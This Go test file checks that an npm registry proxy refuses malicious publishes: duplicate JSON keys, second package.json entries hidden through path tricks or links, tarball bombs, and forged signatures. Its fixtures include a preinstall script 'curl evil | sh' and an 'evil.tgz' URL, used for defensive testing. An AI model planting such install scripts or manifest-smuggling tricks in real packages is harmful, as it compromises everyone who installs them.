package proxy

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/npmgate/npmgate/proxy/npm"
)

// tarEntry is one entry of a test tarball.
type tarEntry struct {
	name     string
	body     string
	typeflag byte // tar.TypeReg when zero
	linkname string
}

// tarballOf packs entries as a gzipped tar.
func tarballOf(t testing.TB, entries ...tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Mode: 0o644, Size: int64(len(e.body)), Typeflag: e.typeflag, Linkname: e.linkname}
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(e.body[:h.Size])); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func manifestJSON(t testing.TB, m map[string]any) string {
	t.Helper()
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// publishTarball PUTs a publish of name@1.0.0 with tgz attached, the
// version document edited by edit.
func (p *publisher) publishTarball(name string, tgz []byte, edit func(doc, ver map[string]any)) (int, string) {
	p.t.Helper()
	resp, b := p.do("PUT", "/"+strings.Replace(name, "/", "%2f", 1), p.authz, publishDoc(name, "1.0.0", tgz, edit))
	return resp.StatusCode, string(b)
}

// refusedAndNothingStored checks a publish was refused with a JSON error
// that mentions want, and that neither a document nor a tarball was kept.
func (p *publisher) refusedAndNothingStored(t *testing.T, name string, status int, body, want string) {
	t.Helper()
	var e struct{ Error string }
	if status != 400 || json.Unmarshal([]byte(body), &e) != nil || !strings.Contains(e.Error, want) {
		t.Errorf("publish: %d %s; want a 400 JSON error about %q", status, body, want)
	}
	if _, err := os.Stat(p.localFile(name)); err == nil {
		t.Error("a refused publish wrote the package's document")
	}
	if files := p.storedTarballs(); len(files) > 0 {
		t.Errorf("a refused publish stored tarballs: %v", files)
	}
}

// TestPublishDuplicateKeysAreRefused: a publish body with a name twice in
// one object is a 400 that names the key, before anything is stored. Go's
// decoder would keep the last member, another reader the first.
func TestPublishDuplicateKeysAreRefused(t *testing.T) {
	for _, c := range []struct {
		name      string
		old, with string // the body's bytes old are replaced by with
		path      string
	}{
		{"top-level name", `"name":"dup-a"`, `"name":"dup-a","name":"dup-a"`, "name"},
		{"two dist", `"dist":{`, `"dist":{"tarball":"http://127.0.0.1:1/evil.tgz","integrity":"sha512-AAAA"},"dist":{`, `versions["1.0.0"].dist`},
		{"two versions", `"versions":{"1.0.0":`, `"versions":{"1.0.0":{"name":"dup-a","version":"1.0.0","scripts":{"preinstall":"evil"}},"1.0.0":`, `versions["1.0.0"]`},
		{"inside dist", `"shasum":`, `"shasum":"0","shasum":`, `versions["1.0.0"].dist.shasum`},
		{"escaped twin", `"dist-tags":`, `"dist\u002dtags":{"latest":"1.0.0"},"dist-tags":`, "dist-tags"},
		{"attachments", `"_attachments":{`, `"_attachments":{"x.tgz":{},"x.tgz":{},`, `_attachments["x.tgz"]`},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := publishGate(t)
			body := publishDoc("dup-a", "1.0.0", pkgTarball(t, "dup-a", "1.0.0"), nil)
			if !bytes.Contains(body, []byte(c.old)) {
				t.Fatalf("the body has no %s: %s", c.old, body)
			}
			body = bytes.Replace(body, []byte(c.old), []byte(c.with), 1)
			resp, b := p.do("PUT", "/dup-a", p.authz, body)
			p.refusedAndNothingStored(t, "dup-a", resp.StatusCode, string(b), "the key "+c.path+" twice")
		})
	}
}

// TestPublishTarballWithTwoManifestsIsRefused: a tarball with a second
// entry an installer extracts to package.json (with a preinstall npmgate
// never saw) is refused, whatever spelling the second entry uses; so is
// a package.json that is not a regular file.
func TestPublishTarballWithTwoManifestsIsRefused(t *testing.T) {
	const name = "two-manifests"
	good := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0"})
	evil := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0", "scripts": map[string]string{"preinstall": "curl evil | sh"}})
	for _, c := range []struct {
		name    string
		entries []tarEntry
		want    string
	}{
		{"the same name twice", []tarEntry{{name: "package/package.json", body: good}, {name: "package/package.json", body: evil}}, "more than one entry"},
		{"another first directory", []tarEntry{{name: "package/package.json", body: good}, {name: "x/package.json", body: evil}}, "more than one entry"},
		{"leading ./", []tarEntry{{name: "package/package.json", body: good}, {name: "./package/package.json", body: evil}}, "more than one entry"},
		{"double slash", []tarEntry{{name: "package/package.json", body: good}, {name: "package//package.json", body: evil}}, "more than one entry"},
		{"dot segment", []tarEntry{{name: "package/package.json", body: good}, {name: "package/./package.json", body: evil}}, "more than one entry"},
		{"dot-dot segment", []tarEntry{{name: "package/package.json", body: good}, {name: "package/lib/../package.json", body: evil}}, "more than one entry"},
		{"upper case", []tarEntry{{name: "package/package.json", body: good}, {name: "package/PACKAGE.json", body: evil}}, "more than one entry"},
		{"backslash", []tarEntry{{name: "package/package.json", body: good}, {name: `package\package.json`, body: evil}}, "more than one entry"},
		{"trailing dot", []tarEntry{{name: "package/package.json", body: good}, {name: "package/package.json.", body: evil}}, "more than one entry"},
		{"evil one first", []tarEntry{{name: "x/package.json", body: evil}, {name: "package/package.json", body: good}}, "more than one entry"},
		{"a symlink", []tarEntry{{name: "package/real.json", body: good}, {name: "package/package.json", typeflag: tar.TypeSymlink, linkname: "real.json"}}, "not a regular file"},
		{"a hard link", []tarEntry{{name: "package/real.json", body: good}, {name: "package/package.json", typeflag: tar.TypeLink, linkname: "package/real.json"}}, "not a regular file"},
		{"only an upper-case one", []tarEntry{{name: "package/Package.json", body: good}}, "not named package.json"},
		{"duplicate keys inside", []tarEntry{{name: "package/package.json", body: strings.Replace(good, `"name":`, `"scripts":{"preinstall":"x"},"scripts":{},"name":`, 1)}}, "package.json has the key scripts twice"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := publishGate(t)
			status, body := p.publishTarball(name, tarballOf(t, c.entries...), nil)
			p.refusedAndNothingStored(t, name, status, body, c.want)
		})
	}

	// A package.json deeper down is an ordinary file of the package.
	p := publishGate(t)
	tgz := tarballOf(t, tarEntry{name: "package/package.json", body: good}, tarEntry{name: "package/lib/package.json", body: evil},
		tarEntry{name: "package/node_modules/x/package.json", body: evil})
	if status, body := p.publishTarball(name, tgz, nil); status != 200 {
		t.Errorf("a package with nested package.json files: %d %s", status, body)
	}
}

// TestPublishTarballEntriesAreBounded: a tarball of more entries than
// any package has is refused, not walked to the end.
func TestPublishTarballEntriesAreBounded(t *testing.T) {
	const name = "many-entries"
	entries := []tarEntry{{name: "package/package.json", body: manifestJSON(t, map[string]any{"name": name, "version": "1.0.0"})}}
	for i := range npm.MaxTarEntries {
		entries = append(entries, tarEntry{name: fmt.Sprintf("package/d/%d", i)})
	}
	p := publishGate(t)
	status, body := p.publishTarball(name, tarballOf(t, entries...), nil)
	p.refusedAndNothingStored(t, name, status, body, fmt.Sprintf("more than %d entries", npm.MaxTarEntries))
}

// TestPublishTarballCutAtTheInflateLimitIsRefused: entries past the
// inflation limit (here a second package.json) are not silently unread:
// the publish is refused.
func TestPublishTarballCutAtTheInflateLimitIsRefused(t *testing.T) {
	defer func(old int64) { maxInflate = old }(maxInflate)
	maxInflate = 1 << 20
	const name = "past-the-limit"
	pj := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0"})
	evil := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0", "scripts": map[string]string{"preinstall": "evil"}})
	p := publishGate(t)
	status, body := p.publishTarball(name, tarballOf(t, tarEntry{name: "package/package.json", body: pj},
		tarEntry{name: "package/zeros", body: string(make([]byte, 2<<20))}, tarEntry{name: "package/package.json", body: evil}), nil)
	p.refusedAndNothingStored(t, name, status, body, "inflates to more than 1 MiB")
}

// TestPublishFactsComeFromTheServer: dist is made by npmgate from the
// stored bytes (client signatures and attestations are dropped), and
// hasInstallScript, gypfile, _hasShrinkwrap, bin, os, cpu and engines
// come from the tarball, whatever the document claims.
func TestPublishFactsComeFromTheServer(t *testing.T) {
	lie := func(doc, ver map[string]any) {
		dist := ver["dist"].(map[string]any)
		dist["signatures"] = []map[string]string{{"keyid": "SHA256:jl3bwswu80PjjokCgh0o2w5c2U4LhQAE57gj9cz1kzA", "sig": "MEUCIQDforged"}}
		dist["attestations"] = map[string]any{"url": "http://127.0.0.1:1/attestations", "provenance": map[string]any{"predicateType": "https://slsa.dev/provenance/v1"}}
		dist["fileCount"], dist["unpackedSize"] = 999, 1
		ver["hasInstallScript"] = false
		ver["gypfile"] = false
		ver["_hasShrinkwrap"] = false
		ver["bin"] = map[string]string{"harmless": "x.js"}
		ver["os"], ver["cpu"] = []string{"any"}, []string{"any"}
		ver["engines"] = map[string]string{"node": "*"}
		ver["scripts"] = map[string]string{}
		ver["acceptDependencies"] = map[string]string{"ms": "*"}
	}
	type served struct {
		Dist             map[string]json.RawMessage
		HasInstallScript *bool             `json:"hasInstallScript"`
		Gypfile          *bool             `json:"gypfile"`
		HasShrinkwrap    *bool             `json:"_hasShrinkwrap"`
		Scripts          map[string]string `json:"scripts"`
		Bin              map[string]string `json:"bin"`
		OS               []string          `json:"os"`
		CPU              []string          `json:"cpu"`
		Engines          map[string]string `json:"engines"`
		Accept           map[string]string `json:"acceptDependencies"`
	}
	for _, c := range []struct {
		name          string
		manifest      map[string]any
		extra         []tarEntry
		installScript bool
		gyp           bool
		shrinkwrap    bool
	}{
		{"postinstall", map[string]any{"scripts": map[string]string{"postinstall": "node setup.js"}}, nil, true, false, false},
		{"binding.gyp", nil, []tarEntry{{name: "package/binding.gyp", body: "{}"}}, true, true, false},
		{"binding.gyp and scripts null", map[string]any{"scripts": nil}, []tarEntry{{name: "package/binding.gyp", body: "{}"}}, true, true, false},
		{"binding.gyp with gypfile false", map[string]any{"gypfile": false}, []tarEntry{{name: "package/binding.gyp", body: "{}"}}, false, false, false},
		{"binding.gyp and an install script", map[string]any{"scripts": map[string]string{"install": "node build.js"}}, []tarEntry{{name: "package/binding.gyp", body: "{}"}}, true, false, false},
		{"shrinkwrap", nil, []tarEntry{{name: "package/npm-shrinkwrap.json", body: "{}"}}, false, false, true},
		{"nothing", nil, nil, false, false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			name := "facts-" + strings.NewReplacer(" ", "-", ".", "-").Replace(c.name)
			m := map[string]any{"name": name, "version": "1.0.0", "bin": map[string]string{"real": "cli.js"},
				"os": []string{"linux"}, "cpu": []string{"x64"}, "engines": map[string]string{"node": ">=20"}}
			for k, v := range c.manifest {
				m[k] = v
			}
			entries := append([]tarEntry{{name: "package/package.json", body: manifestJSON(t, m)}, {name: "package/cli.js", body: "#!/usr/bin/env node\n"}}, c.extra...)
			tgz := tarballOf(t, entries...)
			p := publishGate(t)
			if status, body := p.publishTarball(name, tgz, lie); status != 200 {
				t.Fatalf("publish: %d %s", status, body)
			}
			for _, accept := range []string{"application/json", corgi} {
				_, b := p.get("/"+name, "Accept", accept)
				var doc struct{ Versions map[string]served }
				if err := json.Unmarshal(b, &doc); err != nil {
					t.Fatalf("%s: %v", accept, err)
				}
				v := doc.Versions["1.0.0"]
				for _, k := range []string{"signatures", "attestations"} {
					if _, ok := v.Dist[k]; ok {
						t.Errorf("%s: the client's dist.%s is served: %s", accept, k, v.Dist[k])
					}
				}
				if string(v.Dist["fileCount"]) != fmt.Sprint(len(entries)) || string(v.Dist["unpackedSize"]) == "1" {
					t.Errorf("%s: dist.fileCount %s, unpackedSize %s; want the tarball's (%d files)", accept, v.Dist["fileCount"], v.Dist["unpackedSize"], len(entries))
				}
				if got := v.HasInstallScript != nil && *v.HasInstallScript; got != c.installScript {
					t.Errorf("%s: hasInstallScript %v, want %v", accept, got, c.installScript)
				}
				if v.Bin["real"] != "cli.js" || v.Bin["harmless"] != "" || len(v.OS) != 1 || v.OS[0] != "linux" ||
					len(v.CPU) != 1 || v.CPU[0] != "x64" || v.Engines["node"] != ">=20" || v.Accept != nil {
					t.Errorf("%s: bin %v, os %v, cpu %v, engines %v, acceptDependencies %v; want the tarball's", accept, v.Bin, v.OS, v.CPU, v.Engines, v.Accept)
				}
				if accept == corgi {
					continue // the abbreviated document has no scripts or gypfile
				}
				if got := v.Gypfile != nil && *v.Gypfile; got != c.gyp {
					t.Errorf("gypfile %v, want %v", got, c.gyp)
				}
				if c.gyp && v.Scripts["install"] != "node-gyp rebuild" {
					t.Errorf("scripts %v; want npm's install of a binding.gyp", v.Scripts)
				}
				if v.HasShrinkwrap == nil || *v.HasShrinkwrap != c.shrinkwrap {
					t.Errorf("_hasShrinkwrap %v, want %v", v.HasShrinkwrap, c.shrinkwrap)
				}
			}
		})
	}
}
